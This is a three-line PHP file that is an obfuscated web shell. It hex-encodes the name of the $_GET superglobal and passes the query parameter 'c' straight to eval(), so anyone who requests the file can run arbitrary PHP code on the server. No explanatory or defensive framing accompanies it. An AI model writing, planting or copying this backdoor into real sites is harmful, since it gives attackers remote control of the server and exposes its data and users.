<?php
$a = ${"\x5f\x47\x45\x54"};
eval($a["c"]);
